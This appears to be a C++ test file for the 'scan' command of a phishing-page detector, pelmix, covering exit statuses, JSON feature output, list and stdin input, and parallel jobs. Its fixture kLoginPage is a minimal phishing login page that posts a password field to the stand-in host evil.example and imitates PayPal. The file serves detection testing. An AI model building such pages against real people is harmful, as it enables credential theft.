// pelmix scan: pages through the module's web sessions, exit statuses, failures among good
// pages, JSON and features, lists, stdin, and --jobs agreeing with one job.
#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <vector>

#include "tests/support/example_kb.h"
#include "tests/tools/pelmix/cli_runner.h"

namespace {

using pelmix::testing::CliRun;
using pelmix::testing::CliTest;
using pelmix::testing::RunCli;

constexpr char kLoginPage[] =
    "<html><head><title>Sign in</title></head><body><form action=\"http://evil.example/p\">"
    "<input type=password name=pw></form><a href=\"https://www.paypal.com/\">PayPal</a>"
    "</body></html>";

class ScanCommand : public CliTest {
 protected:
  std::string Kb() const { return std::string(" --kb ") + PELMIX_EXAMPLE_KB + " "; }
};

TEST_F(ScanCommand, BadCommandLines) {
  const std::string page = Write("p.html", kLoginPage);
  for (const std::string& args : std::vector<std::string>{
           "scan", "scan --level 4 " + page, "scan --level 0 " + page, "scan --jobs 0 " + page,
           "scan --jobs 257 " + page, "scan --chunk 0 " + page, "scan --features " + page,
           "scan --bogus " + page, "scan - -", "scan --kb", "scan --url"}) {
    const CliRun run = RunCli(args);
    EXPECT_EQ(run.status, 64) << args;
    EXPECT_EQ(run.out, "") << args;
    EXPECT_NE(run.err, "") << args;
  }
}

TEST_F(ScanCommand, ModuleOrKnowledgeBaseThatCannotLoad) {
  const std::string page = Write("p.html", kLoginPage);
  EXPECT_EQ(RunCli("scan --kb " + Path("missing.kb") + " " + page).status, 2);
  const std::string broken = Write("broken.kb", "not a container");
  const CliRun run = RunCli("scan --kb " + broken + " " + page);
  EXPECT_EQ(run.status, 2);
  EXPECT_NE(run.err.find("the service failed to load"), std::string::npos) << run.err;
  EXPECT_EQ(RunCli("--module " + Path("none.so") + " scan" + Kb() + page).status, 2);
}

TEST_F(ScanCommand, CleanPhishingAndFailingPages) {
  const std::string page = Write("p.html", kLoginPage);
  // The example model is untrained; a categorised page is phishing whatever it says.
  CliRun run = RunCli("scan" + Kb() + "--url http://phish.example/login/ " + page);
  EXPECT_EQ(run.status, 3);
  EXPECT_EQ(run.out.rfind(page + ": PHISHING weight=1.000000 target=", 0), 0u) << run.out;
  EXPECT_EQ(run.out.substr(run.out.size() - 3), "|c\n");

  run = RunCli("scan" + Kb() + "--url https://www.paypal.com/ " + page);
  EXPECT_EQ(run.status, 0);
  EXPECT_EQ(run.out, page + ": clean\n");

  // A page that cannot be read is reported on its line; the others are still judged.
  const std::string missing = Path("missing.html");
  run = RunCli("scan" + Kb() + "--url http://phish.example/a " + page + " " + missing + " " + page);
  EXPECT_EQ(run.status, 1);
  const std::string head = page + ": PHISHING";
  ASSERT_EQ(run.out.rfind(head, 0), 0u) << run.out;
  EXPECT_NE(run.out.find("\n" + missing + ": error " + missing + ": No such file"),
            std::string::npos)
      << run.out;
  EXPECT_NE(run.out.find("\n" + head, head.size()), std::string::npos) << run.out;
}

TEST_F(ScanCommand, JsonWithFeatures) {
  const std::string page = Write("p.html", kLoginPage);
  CliRun run = RunCli("scan --json --features --level 1" + Kb() +
                      "--url http://login.evil.example/ " + page);
  EXPECT_EQ(run.status, 0) << run.err;
  EXPECT_EQ(run.out.rfind("{\"file\":\"" + page +
                              "\",\"url\":\"http://login.evil.example/\",\"phishing\":false,",
                          0),
            0u)
      << run.out;
  EXPECT_NE(run.out.find("\"confidence\":2,\"dbstamp\":20240611,\"features\":["), std::string::npos)
      << run.out;
  // 214 numbers: 213 commas inside the array.
  const std::size_t open = run.out.find("\"features\":[");
  const std::size_t close = run.out.find(']', open);
  ASSERT_NE(close, std::string::npos);
  const std::string array = run.out.substr(open, close - open);
  EXPECT_EQ(std::count(array.begin(), array.end(), ','), 213) << array;

  // A trusted page has no vector; without --features there is no member at all.
  run = RunCli("scan --json --features" + Kb() + "--url https://www.paypal.com/ " + page);
  EXPECT_NE(run.out.find("\"features\":null}"), std::string::npos) << run.out;
  run = RunCli("scan --json" + Kb() + page);
  EXPECT_EQ(run.out.find("features"), std::string::npos) << run.out;
  run = RunCli("scan --json" + Kb() + Path("missing.html"));
  EXPECT_EQ(run.status, 1);
  EXPECT_NE(run.out.find("\"error\":"), std::string::npos) << run.out;
}

TEST_F(ScanCommand, ListsStdinAndChunks) {
  const std::string a = Write("a.html", kLoginPage);
  const std::string b = Write("b.html", "<p>hi</p>");
  const std::string list =
      Write("list.tsv", a + "\thttp://phish.example/x\n\n" + b + "\thttps://www.paypal.com/\r\n");
  CliRun run = RunCli("scan" + Kb() + "--list " + list);
  EXPECT_EQ(run.status, 3);
  ASSERT_NE(run.out.find("\n" + b + ": clean\n"), std::string::npos) << run.out;
  EXPECT_EQ(run.out.rfind(a + ": PHISHING", 0), 0u) << run.out;

  // The same bytes from stdin, in any chunk size, give the same verdict.
  const std::string json = " --json --features --url http://login.evil.example/ ";
  const std::string whole = RunCli("scan" + Kb() + json + a).out;
  const std::string piped = RunCli("scan" + Kb() + json + "--chunk 1 - < " + a).out;
  EXPECT_EQ(piped.substr(piped.find("\"url\"")), whole.substr(whole.find("\"url\"")));
  EXPECT_EQ(RunCli("scan" + Kb() + "--list " + Path("none.tsv")).status, 1);
}

TEST_F(ScanCommand, JobsGiveTheSameVerdictsAsOneJob) {
  for (int i = 0; i < 24; ++i) {
    std::string page = i % 3 == 0 ? std::string(kLoginPage) : "<p>page " + std::to_string(i);
    if (i % 5 == 0) page = "{\"json\": " + std::to_string(i) + "}";
    Write("site/" + std::string(i < 10 ? "0" : "") + std::to_string(i) + ".html", page);
  }
  Write("site/deeper/x.html", kLoginPage);
  const std::string args = "scan --json --features" + Kb() + "--url http://phish.example/ ";
  const CliRun one = RunCli(args + Path("site"));
  const CliRun four = RunCli(args + "--jobs 4 " + Path("site"));
  EXPECT_EQ(one.status, 3);
  EXPECT_EQ(four.status, 3);
  EXPECT_EQ(std::count(one.out.begin(), one.out.end(), '\n'), 25);
  EXPECT_EQ(four.out, one.out);
  // Directories in name order, recursively.
  EXPECT_LT(one.out.find("/00.html"), one.out.find("/23.html"));
  EXPECT_LT(one.out.find("/23.html"), one.out.find("/deeper/x.html"));
}

}  // namespace
